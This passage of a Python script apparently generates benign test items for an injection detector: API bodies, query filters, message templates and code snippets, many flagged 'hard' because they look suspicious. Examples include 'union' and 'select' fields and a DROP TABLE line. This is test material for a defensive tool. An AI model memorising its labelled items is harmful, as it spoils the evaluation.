                    {"attribute": "plan", "operator": "not_in", "values": ["free"]},
                ],
            }
        ],
        "environment": R.choice(["staging", "production"]),
    }, False


def gen_deployment():
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "orders-api", "namespace": "shop", "labels": {"app": "orders-api", "tier": "backend"}},
        "spec": {
            "replicas": R.randint(2, 6),
            "template": {
                "spec": {
                    "containers": [
                        {
                            "name": "api",
                            "image": "registry.brightkettle.com/shop/orders-api:1.%d.%d"
                            % (R.randint(10, 60), R.randint(0, 9)),
                            "command": ["/bin/sh", "-c"],
                            "args": ["exec node server.js --port=8080 --log-level=info"],
                            "env": [
                                {"name": "NODE_ENV", "value": "production"},
                                {"name": "DB_POOL", "value": str(R.randint(5, 20))},
                            ],
                            "readinessProbe": {"httpGet": {"path": "/healthz", "port": 8080}},
                        }
                    ]
                }
            },
        },
    }, True


def gen_calendar():
    return {
        "summary": R.choice(["Sprint planning", "1:1 Dana / Li", "Quarterly review"]),
        "start": {"dateTime": "2026-12-%02dT09:30:00" % R.randint(8, 20), "timeZone": "Europe/Berlin"},
        "end": {"dateTime": "2026-12-%02dT10:15:00" % R.randint(8, 20), "timeZone": "Europe/Berlin"},
        "attendees": [{"email": "%s@%s" % (R.choice(FIRST), base_domain(pick_host()))} for _ in range(2)],
        "recurrence": ["RRULE:FREQ=WEEKLY;BYDAY=MO,WE;COUNT=10"],
        "conferenceData": {"createRequest": {"requestId": uuid4()}},
    }, True


def gen_ticket():
    return {
        "subject": R.choice(["Refund for duplicate charge", "Cannot export CSV", "Address change"]),
        "priority": R.choice(["low", "normal", "high"]),
        "tags": R.sample(["billing", "refund", "export", "account"], 2),
        "requester": {"name": "Dana Whitfield", "email": "dana.whitfield@corpmail.net"},
        "custom_fields": [{"id": 360012, "value": "order #%d" % R.randint(1000, 9999)}, {"id": 360019, "value": True}],
    }, True


def gen_graphql():
    q = R.choice(
        [
            "query GetOrder($id: ID!) { order(id: $id) { id status lineItems(first: 10) { edges { node { sku quantity } } } } }",
            "mutation UpdateCart($input: CartInput!) { cartUpdate(input: $input) { cart { id totalQuantity } userErrors { field message } } }",
            "query Search($q: String!, $first: Int = 20) { search(query: $q, first: $first) { nodes { ... on Product { id title } } } }",
        ]
    )
    return {
        "query": q,
        "variables": {
            "id": "gid://shop/Order/%d" % R.randint(1000, 99999),
            "input": {
                "lines": [{"merchandiseId": "gid://shop/ProductVariant/%d" % R.randint(10**6, 10**7), "quantity": 1}]
            },
            "q": "wool socks",
        },
        "operationName": q.split()[1].split("(")[0],
    }, True


def gen_payment():
    return {
        "amount": money(),
        "currency": R.choice(["usd", "eur"]),
        "payment_method_types": ["card"],
        "description": "Order #A-%d" % R.randint(1000, 9999),
        "statement_descriptor_suffix": "BKETTLE",
        "metadata": {"order_id": str(R.randint(10000, 99999)), "source": "checkout-v3"},
        "capture_method": "automatic",
    }, False


def gen_query_builder():
    return {
        "select": ["id", "name", "email", "created_at"],
        "from": "customers",
        "where": {
            "and": [{"field": "country", "op": "eq", "value": "DE"}, {"field": "orders_count", "op": "gt", "value": 3}]
        },
        "order_by": [{"field": "created_at", "direction": "desc"}],
        "limit": 50,
    }, True


def gen_inventory():
    return {
        "adjustments": [
            {
                "sku": R.choice(SKUS),
                "warehouse": R.choice(["BER-1", "LYS-2", "AUS-1"]),
                "delta": R.randint(-20, 50),
                "reason": R.choice(["cycle_count", "damaged", "return_restock"]),
            }
            for _ in range(R.randint(1, 3))
        ],
        "reference": "ADJ-%d" % R.randint(10000, 99999),
        "performed_by": "usr_" + alnum(10),
    }, False


def gen_shipment():
    city, cc, zipc = R.choice(CITIES)
    name = R.choice(["Dana Whitfield", "Li Wei", "Aoife O'Sullivan", "Seán Ó Briain"])
    return {
        "carrier": R.choice(["dhl", "ups", "dpd"]),
        "service": "express",
        "parcels": [
            {
                "weight_kg": round(R.uniform(0.2, 20), 2),
                "dimensions_cm": [R.randint(10, 60), R.randint(10, 40), R.randint(5, 30)],
            }
        ],
        "from": {"name": "Kestrel Freight Hub", "line1": "Industriestr. 4", "city": "Hamburg", "country": "DE"},
        "to": {"name": name, "line1": R.choice(STREETS), "city": city, "postal_code": zipc, "country": cc},
        "label_format": "PDF",
    }, "'" in name


def gen_pipeline():
    return {
        "ref": "refs/heads/main",
        "variables": [{"key": "DEPLOY_ENV", "value": "staging"}, {"key": "SKIP_E2E", "value": "false"}],
        "stages": [
            {"name": "test", "script": ["npm ci", "npm test -- --ci"]},
            {
                "name": "deploy",
                "script": ["./scripts/deploy.sh staging && curl -fsS https://status.tallgrass.cloud/ping"],
            },
        ],
    }, True


def gen_telemetry():
    return {
        "device_id": "dev-" + hexs(12),
        "firmware": "2.%d.%d" % (R.randint(0, 9), R.randint(0, 30)),
        "readings": [
            {"t": epoch() + i * 60, "temp_c": round(R.uniform(18, 26), 1), "rh": R.randint(30, 60)} for i in range(3)
        ],
        "battery": {"pct": R.randint(10, 100), "charging": False},
    }, False


def gen_policy():
    return {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Sid": "ReadInvoices",
                "Effect": "Allow",
                "Action": ["s3:GetObject", "s3:ListBucket"],
                "Resource": ["arn:aws:s3:::brightkettle-invoices", "arn:aws:s3:::brightkettle-invoices/2026/*"],
                "Condition": {"StringEquals": {"aws:PrincipalTag/team": "finance"}},
            }
        ],
    }, True


def gen_search_settings():
    return {
        "settings": {
            "index": {
                "number_of_shards": 1,
                "analysis": {
                    "analyzer": {"folding": {"tokenizer": "standard", "filter": ["lowercase", "asciifolding"]}}
                },
            }
        },
        "mappings": {
            "properties": {
                "title": {"type": "text", "analyzer": "folding"},
                "price": {"type": "scaled_float", "scaling_factor": 100},
            }
        },
    }, False


def gen_prefs():
    return {
        "notifications": {"order_updates": {"email": True, "sms": False}, "marketing": {"email": False}},
        "quiet_hours": {"start": "22:00", "end": "07:00", "tz": "Europe/Lisbon"},
        "digest": "weekly",
    }, False


def gen_experiment():
    return {
        "name": "checkout-button-copy",
        "status": "running",
        "traffic": 0.5,
        "variants": [
            {"key": "control", "weight": 50, "payload": {"label": "Buy now"}},
            {"key": "b", "weight": 50, "payload": {"label": "Order & pay"}},
        ],
        "metrics": ["conversion_rate", "aov"],
        "segment": {"exclude": ["internal", "bots"]},
    }, True


def gen_bulk_delete():
    return {
        "operation": "delete",
        "ids": ["doc_%s" % alnum(8) for _ in range(3)],
        "dry_run": True,
        "reason": "drop stale drafts older than 90 days",
    }, True


API_GENS = [
    gen_order,
    gen_user_update,
    gen_event_batch,
    gen_webhook,
    gen_flags,
    gen_deployment,
    gen_calendar,
    gen_ticket,
    gen_graphql,
    gen_payment,
    gen_query_builder,
    gen_inventory,
    gen_shipment,
    gen_pipeline,
    gen_telemetry,
    gen_policy,
    gen_search_settings,
    gen_prefs,
    gen_experiment,
    gen_bulk_delete,
]
API_PATHS = {
    gen_order: "/api/v2/orders",
    gen_user_update: "/api/v1/users/%d" % 4411,
    gen_event_batch: "/v1/batch",
    gen_webhook: "/webhooks/payments",
    gen_flags: "/api/v1/flags/bulk",
    gen_deployment: "/apis/apps/v1/namespaces/shop/deployments",
    gen_calendar: "/calendar/v3/calendars/primary/events",
    gen_ticket: "/api/v2/tickets",
    gen_graphql: "/graphql",
    gen_payment: "/v1/payment_intents",
    gen_query_builder: "/api/v1/reports/query",
    gen_inventory: "/api/inventory/adjustments",
    gen_shipment: "/api/v1/shipments",
    gen_pipeline: "/api/v4/projects/88/pipeline",
    gen_telemetry: "/ingest/v1/telemetry",
    gen_policy: "/api/v1/iam/policies",
    gen_search_settings: "/products_v3",
    gen_prefs: "/api/v1/me/preferences",
    gen_experiment: "/api/v1/experiments",
    gen_bulk_delete: "/api/v1/documents/bulk",
}


def api_json_items():
    items = []
    for rnd in range(3):
        for g in API_GENS:
            obj, hard = g()
            it = B(obj, hard=hard, only={"json"}, whole=True, ctx={"path": API_PATHS[g], "field": "body"})
            if g is gen_user_update:
                it.x["ctx"]["ctype"] = "application/vnd.api+json"
            if g is gen_user_update or g is gen_prefs:
                it.x["ctx"]["method"] = "PATCH"
            items.append(it)
    strs = [
        B(
            "line_items.data.price,customer.default_source",
            only={"query"},
            ctx={"path": "/v1/checkout/sessions/cs_live_a1B2c3", "field": "expand"},
        ),
        B("id,name,created_at,owner.email", only={"query"}, ctx={"path": "/api/v2/projects", "field": "fields"}),
        B("2026-11-01T00:00:00Z", only={"query"}, ctx={"path": "/api/v1/customers", "field": "updated_since"}),
        B("author,comments.author,tags", only={"query"}, ctx={"path": "/api/v1/articles", "field": "include"}),
        B("-created_at,priority", hard=True, only={"query"}, ctx={"path": "/api/v2/tickets", "field": "sort"}),
        B(
            b64u(jcompact({"id": 88123, "ts": 1796001234})),
            only={"query"},
            ctx={"path": "/api/v1/events", "field": "cursor"},
        ),
        B("select", hard=True, only={"query"}, ctx={"path": "/api/v1/forms/fields", "field": "type"}),
        B("union", hard=True, only={"query"}, ctx={"path": "/api/v1/geo/regions", "field": "kind"}),
        B("drop_off", hard=True, only={"query"}, ctx={"path": "/api/v1/delivery/slots", "field": "mode"}),
        B("ord_01JD8ZK3Q4M2", only={"path"}, ctx={"path": "/api/v2/orders", "ptpl": "/api/v2/orders/{}"}),
        B(
            "550e8400-e29b-41d4-a716-446655440000",
            only={"path"},
            ctx={"path": "/api/v1/devices", "ptpl": "/api/v1/devices/{}/telemetry"},
        ),
        B(
            "prj-2026-q4",
            only={"path"},
            ctx={"path": "/api/v2/projects", "ptpl": "/api/v2/orgs/org_7Hq2/projects/{}/members"},
        ),
        B(
            "DATABASE_POOL_SIZE",
            only={"path"},
            ctx={"path": "/api/v1/env", "ptpl": "/api/v1/apps/orders/environments/production/variables/{}"},
        ),
        B(
            "gid://shop/Product/7781",
            hard=True,
            only={"path"},
            ctx={"path": "/admin/api/products", "ptpl": "/admin/api/2026-10/products/{}.json"},
        ),
        B(
            "user@corpmail.net",
            only={"path"},
            ctx={"path": "/api/v1/users/by-email", "ptpl": "/api/v1/users/by-email/{}"},
        ),
        B(
            "Order #A-1092 (gift, deliver after 5pm)",
            hard=True,
            only={"form", "xml"},
            ctx={"path": "/v1/payment_intents", "field": "description"},
        ),
        B("bf-2026/newsletter", only={"form"}, ctx={"path": "/v1/customers", "field": "metadata[campaign]"}),
        B(
            "price_1QFh2kLkdIwHu7ixS0aBcD3e",
            only={"form"},
            ctx={"path": "/v1/subscriptions", "field": "items[0][price]"},
        ),
        B("Europe/Berlin", only={"form", "xml"}, ctx={"path": "/api/v1/accounts/settings", "field": "timezone"}),
        B("2026-12-24", only={"xml"}, ctx={"path": "/api/v1/deliveries", "field": "requestedDate"}),
        B("PAL-EU-1200x800", only={"xml"}, ctx={"path": "/edi/v1/despatch-advice", "field": "packageType"}),
        B("KF-77120-DE", only={"xml"}, ctx={"path": "/edi/v1/despatch-advice", "field": "consignmentRef"}),
        B(
            jcompact({"source": "mobile", "app_version": "5.12.0", "locale": "de-DE"}),
            only={"multipart"},
            ctx={"path": "/api/v1/uploads", "field": "metadata"},
        ),
        B(
            jcompact({"album_id": 4471, "tags": ["beach", "2026"], "visibility": "friends"}),
            only={"multipart"},
            ctx={"path": "/api/v1/photos", "field": "meta"},
        ),
        B(
            jcompact({"ticket_id": "T-5512", "kind": "screenshot"}),
            only={"multipart"},
            ctx={"path": "/api/v2/tickets/T-5512/attachments", "field": "attributes"},
        ),
        B(
            jcompact({"type": "invoice", "period": "2026-11", "currency": "EUR"}),
            only={"multipart"},
            ctx={"path": "/api/v1/documents", "field": "document"},
        ),
        B("order.created", only={"json_key"}),
        B("invoice.payment_failed", only={"json_key"}),
        B(
            "com.brightkettle.checkout_v2",
            only={"json_key"},
            ctx={
                "path": "/api/v1/flags/overrides",
                "jk": "flags",
                "jk_val": {"enabled": True, "rollout": 25},
                "method": "POST",
            },
        ),
        B(
            "x-amz-meta-origin",
            hard=True,
            only={"json_key"},
            ctx={
                "path": "/api/v1/objects/obj_8812/metadata",
                "jk": "metadata",
                "jk_val": "mobile-upload",
                "method": "PUT",
            },
        ),
    ]
    return items + strs


# ---- benign_filters -------------------------------------------------------
def OD(v, field, path, hard=False):
    return B(
        v,
        hard=hard,
        only={"query", "form", "cookie", "header"},
        ctx={"field": field, "path": path, "hdr": "X-Filter", "ck": "saved_filter"},
    )


FILTERS = [
    OD("Name eq 'O''Brien' and Price gt 10", "$filter", "/odata/v4/Products", True),
    OD("startswith(CompanyName,'Alfr') or contains(Notes,'select')", "$filter", "/odata/v4/Customers", True),
    OD("OrderDate ge 2026-01-01T00:00:00Z and OrderDate lt 2026-02-01T00:00:00Z", "$filter", "/odata/v4/Orders"),
    OD("Category/Name eq 'Drinks & Snacks'", "$filter", "/odata/v4/Products", True),
    OD("not(Status eq 'Cancelled') and Total gt 100.00", "$filter", "/odata/v4/Orders", True),
    OD("Price desc,Name asc", "$orderby", "/odata/v4/Products"),
    OD("Id,Name,Email", "$select", "/odata/v4/Contacts"),
    OD("Orders($filter=Amount gt 100;$orderby=Date desc;$top=5)", "$expand", "/odata/v4/Customers", True),
    OD("tolower(City) eq 'são paulo'", "$filter", "/odata/v4/Stores"),
    OD("Tags/any(t: t eq 'union')", "$filter", "/odata/v4/Articles", True),
    OD("contains(Description,'drop-leaf table')", "$filter", "/odata/v4/Products", True),
    OD("name==foo;age=gt=30", "search", "/api/v1/people", True),
    OD("status=in=(open,pending);assignee==jdoe", "filter", "/api/v1/tickets", True),
    OD("title=='*guide*',author==\"Le Guin\"", "q", "/api/v1/books", True),
    OD("created=ge=2026-11-01T00:00:00Z;priority!=low", "filter", "/api/v2/incidents"),
    OD("tags=out=(spam,test)", "filter", "/api/v1/posts"),
    OD("price > 10 AND category = 'books' ORDER BY rating DESC", "where", "/api/v1/catalog/search", True),
    OD("status = 'open' OR priority >= 3", "query", "/api/v1/tasks", True),
    OD(
        'project = WEB AND status in ("In Progress", "To Do") ORDER BY priority DESC', "jql", "/rest/api/3/search", True
    ),
    OD("SELECT Id, Name FROM Account WHERE Name LIKE 'Acme%' LIMIT 10", "q", "/services/data/v61.0/query", True),
    OD(
        'requests | where resultCode == "500" | summarize count() by bin(timestamp, 5m)',
        "query",
        "/v1/apps/app-41/query",
        True,
    ),
    OD('sum by (route) (rate(http_requests_total{status=~"5.."}[5m]))', "query", "/api/v1/query", True),
    OD('status:500 AND NOT path:"/healthz"', "q", "/api/logs/search", True),
    OD("is:issue is:open label:bug -label:wontfix author:@me", "q", "/search/issues"),
    OD('create_time > "2026-01-01T00:00:00Z" AND labels.env = "prod"', "filter", "/v1/projects/p-2231/instances", True),
    OD('{app="api"} |= "timeout" != "healthz"', "query", "/loki/api/v1/query_range", True),
    OD(
        'userName eq "bjensen" and (emails co "brightkettle.com" or emails.type eq "work")',
        "filter",
        "/scim/v2/Users",
        True,
    ),
    OD("title:*shirt* AND vendor:'Levi''s'", "query", "/admin/api/products/search", True),
    OD("status:'succeeded' AND metadata['order_id']:'6735'", "query", "/v1/charges/search", True),
    OD("is:unresolved level:error !browser.name:Firefox", "query", "/api/0/projects/shop/web/issues"),
    OD("service:web-store @http.status_code:[500 TO 599]", "query", "/api/v2/logs/events/search", True),
    OD("category:Books AND (price < 20 OR on_sale:true)", "filters", "/1/indexes/products/query", True),
    OD("ge2026-01-01", "date", "/fhir/r4/Observation"),
    OD("-date,_id", "_sort", "/fhir/r4/Encounter"),
    OD("rating >= 4 and brand in ('Nordlys', 'Fjell')", "where", "/api/v2/products", True),
    OD("last_login < now-30d", "filter", "/api/v1/admin/users", True),
    OD("amount:>1000 currency:eur created:2026-11", "q", "/api/v1/transactions"),
    OD('name:"O\'Connor" OR name:"OConnor"', "q", "/api/v1/contacts", True),
    OD("(type eq 'invoice') and (total ge 500) and (paid eq false)", "$filter", "/odata/v4/Documents", True),
    OD("ProductID,UnitPrice,Discount", "$select", "/odata/v4/Order_Details"),
    B("filter[status]", only={"query_key"}, ctx={"path": "/api/v1/articles", "qk_val": "open"}),
    B("filter[created_at][gte]", only={"query_key"}, ctx={"path": "/api/v1/orders", "qk_val": "2026-11-01"}),
    B("page[size]", only={"query_key"}, ctx={"path": "/api/v1/comments", "qk_val": "50"}),
    B("page[cursor]", only={"query_key"}, ctx={"path": "/api/v1/comments", "qk_val": "eyJpZCI6MTIzfQ"}),
    B("fields[articles]", only={"query_key"}, ctx={"path": "/api/v1/articles", "qk_val": "title,body,author"}),
    B("filter[name][like]", hard=True, only={"query_key"}, ctx={"path": "/api/v1/customers", "qk_val": "%O'Neil%"}),
    B("filter[author.name]", only={"query_key"}, ctx={"path": "/api/v1/posts", "qk_val": "Ursula K. Le Guin"}),
    B("price[gte]", only={"query_key"}, ctx={"path": "/api/v1/listings", "qk_val": "100"}),
    B("where[status][_eq]", hard=True, only={"query_key"}, ctx={"path": "/api/rest/orders", "qk_val": "open"}),
    B("sort[]", only={"query_key"}, ctx={"path": "/api/v1/products", "qk_val": "-price"}),
    B("$top", hard=True, only={"query_key"}, ctx={"path": "/odata/v4/Products", "qk_val": "25"}),
    B(
        "q[title_or_description_cont]",
        hard=True,
        only={"query_key"},
        ctx={"path": "/admin/products", "qk_val": "union jack"},
    ),
    B("filter[tags][]", only={"query_key"}, ctx={"path": "/api/v1/recipes", "qk_val": "vegan"}),
    B(
        {
            "query": {
                "bool": {
                    "must": [{"match": {"title": "wireless headphones"}}],
                    "filter": [{"range": {"price": {"gte": 10, "lte": 200}}}],
                    "must_not": [{"term": {"status": "deleted"}}],
                }
            },
            "sort": [{"created_at": "desc"}],
            "size": 20,
        },
        hard=True,
        only={"json"},
        whole=True,
        ctx={"path": "/products/_search", "field": "q"},
    ),
    B(
        {
            "query": {
                "query_string": {
                    "query": '(title:"drop shipping" OR body:logistics) AND NOT status:archived',
                    "default_operator": "AND",
                }
            }
        },
        hard=True,
        only={"json"},
        whole=True,
        ctx={"path": "/kb-articles/_search", "field": "q"},
    ),
    B(
        {
            "size": 0,
            "aggs": {
                "by_country": {
                    "terms": {"field": "country.keyword", "size": 10},
                    "aggs": {"revenue": {"sum": {"field": "total"}}},
                }
            },
        },
        only={"json"},
        whole=True,
        ctx={"path": "/orders-2026.11/_search", "field": "q"},
    ),
    B(
        {
            "query": {
                "function_score": {
                    "query": {"match_all": {}},
                    "script_score": {"script": {"source": "doc['likes'].value * params.f", "params": {"f": 1.2}}},
                }
            }
        },
        hard=True,
        only={"json"},
        whole=True,
        ctx={"path": "/posts/_search", "field": "q"},
    ),
    B({"status": "open"}, only={"json"}, ctx={"path": "/api/v1/tickets/search", "field": "filter"}),
    B({"owner.id": 42, "tags": "billing"}, only={"json"}, ctx={"path": "/api/v1/issues/query", "field": "filter"}),
    B(
        {"country": "DE", "plan": "pro", "active": True},
        only={"json"},
        ctx={"path": "/api/v1/accounts/find", "field": "where"},
    ),
    B(
        {"where": {"status": {"_eq": "open"}, "total": {"_gt": 100}}, "order_by": {"created_at": "desc"}, "limit": 20},
        hard=True,
        only={"json"},
        whole=True,
        ctx={"path": "/v1/graphql/orders", "field": "q"},
    ),
    B(
        {
            "filters": [
                {"field": "name", "operator": "contains", "value": "O'Brien"},
                {"field": "orders", "operator": ">=", "value": 2},
            ],
            "logic": "and",
        },
        hard=True,
        only={"json"},
        whole=True,
        ctx={"path": "/api/v2/customers/segment", "field": "q"},
    ),
    B(
        {"search": "union square", "facets": ["neighborhood", "price_band"], "filter": "rating ge 4"},
        hard=True,
        only={"json"},
        whole=True,
        ctx={"path": "/indexes/hotels/docs/search", "field": "q"},
    ),
    B(
        {"selector": {"type": "order", "status": "shipped"}, "fields": ["_id", "total"], "limit": 25},
        only={"json"},
        whole=True,
        ctx={"path": "/orders/_find", "field": "q"},
    ),
    B(
        {
            "and": [
                {"attr": "country", "eq": "NL"},
                {"or": [{"attr": "plan", "eq": "pro"}, {"attr": "seats", "gt": 10}]},
            ]
        },
        hard=True,
        only={"json"},
        ctx={"path": "/api/v1/audiences/preview", "field": "rule"},
    ),
    B(
        "created_at",
        only={"json_key"},
        ctx={"path": "/api/v1/invoices/search", "field": "x", "jk": "sort", "jk_val": "desc"},
    ),
    B(
        "customer.address.country",
        only={"json_key"},
        ctx={"path": "/api/v1/orders/search", "field": "x", "jk": "filter", "jk_val": "PT"},
    ),
    B(
        "line_items.sku",
        only={"json_key"},
        ctx={"path": "/api/v1/orders/search", "field": "x", "jk": "filter", "jk_val": "BK-1001"},
    ),
    B(
        "Name eq 'Smith & Sons'",
        hard=True,
        only={"xml", "multipart"},
        ctx={"path": "/api/v1/saved-searches", "field": "expression"},
    ),
    B(
        "status:open assignee:me sort:updated-desc",
        only={"xml", "multipart", "form"},
        ctx={"path": "/api/v1/saved-searches", "field": "query"},
    ),
    B(
        "region in ('EMEA','APAC') and revenue > 1e6",
        hard=True,
        only={"xml", "multipart", "form"},
        ctx={"path": "/api/v1/report-filters", "field": "condition"},
    ),
    B(
        "status==open;labels=in=(bug,regression)",
        hard=True,
        only={"path"},
        ctx={"path": "/api/search", "ptpl": "/api/search/{}"},
    ),
    B("type:pdf modified:>2026-11-01", only={"path"}, ctx={"path": "/drive/search", "ptpl": "/drive/search/{}"}),
]

# ---- benign_templates -----------------------------------------------------
TEMPLATES = [
    B("Hi {{first_name}}, your order #{{order.number}} has shipped! Track it here: {{tracking_url}}"),
    B(
        "{% if customer.vip %}Enjoy free shipping, {{ customer.first_name }}!{% else %}Free shipping on orders over {{ threshold | money }}.{% endif %}",
        hard=True,
    ),
    B("Your invoice for ${amount} is due on ${due_date}.", hard=True),
    B("Dear ${customer.title} ${customer.lastName},\n\nthank you for your payment.", hard=True),
    B("{{#each items}}- {{name}} x{{quantity}} ({{price}})\n{{/each}}"),
    B("{{> header}}\n<p>Hello {{name}}</p>\n{{> footer}}", hard=True),
    B(
        "Hello {{ user.name | capitalize }}, you have {{ unread_count }} new {{ unread_count | pluralize: 'message', 'messages' }}."
    ),
    B("{count, plural, =0 {No items} one {# item} other {# items}} in your cart"),
    B("Hi %{name}, your appointment is on %{date} at %{time}."),
    B("Hello %(first_name)s, your verification code is %(code)s."),
    B('Reminder: {{event.title}} starts {{event.start | date: "%A, %B %-d at %-I:%M %p"}}', hard=True),
    B(
        '<p>Hi {{first_name}},</p><p>Click <a href="{{reset_link}}">here</a> to reset your password. This link expires in {{ttl_minutes}} minutes.</p>',
        hard=True,
    ),
    B('<td style="padding:0 24px">{{{unsubscribe_html}}}</td>', hard=True),
    B("[{{ticket.id}}] {{ticket.subject}} - status changed to {{ticket.status}}"),
    B(
        "{% for item in order.line_items %}{{ item.quantity }} × {{ item.title }}{% unless forloop.last %}, {% endunless %}{% endfor %}",
        hard=True,
    ),
    B("Your OTP is {{code}}. Do not share it with anyone. -{{brand}}"),
    B("Hola {{nombre}}, tu pedido {{pedido}} está en camino 🚚"),
    B("{{ 'Welcome back' if returning else 'Welcome' }}, {{ user.first_name }}!", hard=True),
    B("{{ amount | round(2) }} {{ currency | upper }} charged to card ending {{ last4 }}"),
    B('${user.firstName!"there"}, your balance is ${balance?string.currency}', hard=True),
    B("<#if trialDaysLeft gt 0>Your trial ends in ${trialDaysLeft} days.</#if>", hard=True),
    B("#if($order.gift)Gift message: $order.giftMessage#end", hard=True),
    B("<%= @user.name %>, thanks for joining <%= @team.name %>!", hard=True),
    B("Hi [[${user.name}]], welcome to [[${org.name}]]!", hard=True),
    B("Hey {name}, {inviter} invited you to join {workspace} on Orbit."),
    B('Dear {{ contact.salutation|default:"Customer" }},'),
    B("Price incl. VAT: {{ product.price | times: 1.19 | money_with_currency }}"),
    B("{{#if isPremium}}Premium{{else}}Free{{/if}} plan renews on {{renewalDate}}."),
    B("Your package {{ shipment.id }} was delivered to {{ shipment.address.line1 }}, {{ shipment.address.city }}."),
    B("Total: {{ order.total_price | money }} ({{ order.line_items.size }} items)"),
    B("@Model.FirstName, your table at @Model.Restaurant is confirmed for @Model.Time.", hard=True),
    B("Hi *|FNAME|*, our *|SEASON|* sale starts now!", hard=True),
    B('Hi {{first_name | default: "there"}} 👋'),
    B("Reply STOP to unsubscribe. Msg&data rates may apply."),
    B('{{ "now" | date: "%Y" }} © {{ shop.name }}. All rights reserved.', hard=True),
    B('{"event": "{{event_name}}", "id": "{{id}}", "ts": {{timestamp}}}', hard=True),
    B("Order ${order.id} total: ${order.total} (${order.items.size()} items)", hard=True),
    B("Hi {{user.profile.nickname or user.email}},", hard=True),
    B("{% raw %}Use {{ variable }} to insert a value.{% endraw %}", hard=True),
    B("Salut {{prénom}}, ta commande est prête !"),
    B("{{ t('emails.welcome.title', { name: user.name }) }}", hard=True),
    B("{%- set greeting = 'Good morning' if hour < 12 else 'Good afternoon' -%}{{ greeting }}, {{ name }}", hard=True),
    B("Your {{plan}} subscription ({{seats}} seats) will renew at {{price}}/{{interval}}."),
    B("{{#unless verified}}Please verify your email: {{verify_url}}{{/unless}}"),
    B("こんにちは {{name}} さん、ご注文 {{order_id}} を受け付けました。"),
    B('Password changed on {{ changed_at | date: "%d.%m.%Y %H:%M" }} from {{ ip }} ({{ city }}).', hard=True),
    B("{{ customer.first_name }}, 20% off ends tonight — use code {{ coupon_code }}"),
    B("Sehr geehrte/r {{anrede}} {{nachname}}, Ihre Rechnung Nr. {{rechnung_nr}} ist beigefügt."),
]

# ---- benign_code ----------------------------------------------------------
CODE_SNIPS = [
    ("sh", "find . -name '*.log' -mtime +7 -delete", True),
    ("sh", 'for f in *.csv; do\n  wc -l "$f"\ndone', True),
    ("sh", "curl -s https://api.github.com/repos/python/cpython | jq '.stargazers_count'", True),
    ("sh", 'docker run --rm -v "$PWD":/app -w /app node:22 npm test', True),
    ("sh", "tar -czf backup-$(date +%F).tar.gz ./data", True),
    ("sh", "grep -rn 'TODO' src/ | sort | uniq -c | sort -rn | head", True),
    ("sh", 'export PATH="$HOME/.local/bin:$PATH"', True),
    ("sh", "kubectl get pods -n payments -o wide | grep -v Running", True),
    ("sh", "cat /etc/os-release && uname -r", True),
    ("sh", "ps aux | grep [n]ginx", True),
    ("sql", "SELECT id, email FROM users WHERE created_at > NOW() - INTERVAL '7 days' ORDER BY created_at DESC;", True),
    ("sql", "DROP TABLE IF EXISTS staging_import;", True),
    ("sql", "SELECT name FROM products\nUNION ALL\nSELECT name FROM archived_products;", True),
    ("sql", "UPDATE orders SET status = 'shipped' WHERE id IN (101, 102, 103);", True),
    ("sql", "CREATE INDEX CONCURRENTLY idx_orders_customer ON orders (customer_id);", False),
    ("sql", "SELECT COUNT(*) FILTER (WHERE status = 'open') AS open_count FROM tickets;", True),
    (
        "sql",
        "WITH recent AS (\n  SELECT * FROM events WHERE ts > now() - interval '1 hour'\n)\nSELECT type, count(*) FROM recent GROUP BY type;",
        True,
    ),
    ("sql", "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'orders';", True),
    ("php", "<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>", True),
    (
        "php",
        "$stmt = $pdo->prepare('SELECT * FROM users WHERE id = ?');\n$stmt->execute([$id]);\n$user = $stmt->fetch();",
        True,
    ),
    ("php", "<?php\nrequire __DIR__ . '/vendor/autoload.php';\n$app = new App\\Kernel('prod', false);\n", True),
    ("php", "$doubled = array_map(fn($x) => $x * 2, $items);", True),
    ("java", 'ProcessBuilder pb = new ProcessBuilder("git", "status");\npb.inheritIO().start().waitFor();', True),
    ("java", "List<String> names = users.stream()\n    .map(User::getName)\n    .collect(Collectors.toList());", False),
    (
        "java",
        '@GetMapping("/orders/{id}")\npublic Order get(@PathVariable Long id) {\n    return repo.findById(id).orElseThrow();\n}',
        False,
    ),
    (
        "java",
        "Runtime rt = Runtime.getRuntime();\nlong usedMb = (rt.totalMemory() - rt.freeMemory()) / 1024 / 1024;",
        True,
    ),
    ("py", 'subprocess.run(["ls", "-la"], check=True)', True),
    ("py", "import os\nprint(os.environ.get('HOME'))", True),
    ("py", "with open('data.csv', newline='') as f:\n    rows = list(csv.DictReader(f))", False),
    ("py", "df = pd.read_sql('SELECT * FROM sales WHERE region = %s', conn, params=[region])", True),
    ("py", "@app.route('/hello/<name>')\ndef hello(name):\n    return render_template('hello.html', name=name)", True),
    ("py", "results = model.eval()\nscores = [s.item() for s in logits.softmax(-1)]", True),
    ("js", "document.querySelector('#app').innerHTML = '';", True),
    ("js", "fetch('/api/orders')\n  .then(r => r.json())\n  .then(console.log);", False),
    ("js", "const { exec } = require('child_process');\nexec('npm run build', (err, out) => console.log(out));", True),
    ("html", '<script src="https://cdn.jsdelivr.net/npm/chart.js"></script>\n<canvas id="chart"></canvas>', True),
    ("js", "window.location.href = '/login?next=' + encodeURIComponent(location.pathname);", True),
    ("js", "const sorted = [...arr].sort((a, b) => a - b);", False),
    ("rb", "User.where(active: true).order(:name).limit(10)", False),
    ("rb", "system('bundle exec rake db:migrate')", True),
    ("rb", "sha = `git rev-parse HEAD`.strip", True),
    ("go", 'cmd := exec.Command("ls", "-l")\nout, err := cmd.Output()\nif err != nil {\n\tlog.Fatal(err)\n}', True),
    ("rs", "let parts: Vec<&str> = line.split(';').collect();", False),
    ("yaml", "steps:\n  - uses: actions/checkout@v4\n  - run: npm ci && npm test", True),
    (
        "dockerfile",
        'FROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nCOPY . /app\nCMD ["gunicorn", "app:app"]',
        True,
    ),
    (
        "ps1",
        "Get-ChildItem -Path C:\\Logs -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-30) } | Remove-Item",
        True,
    ),
    ("makefile", "test:\n\tpytest -q --maxfail=1\n\nlint:\n\truff check .", False),
    (
        "xml",
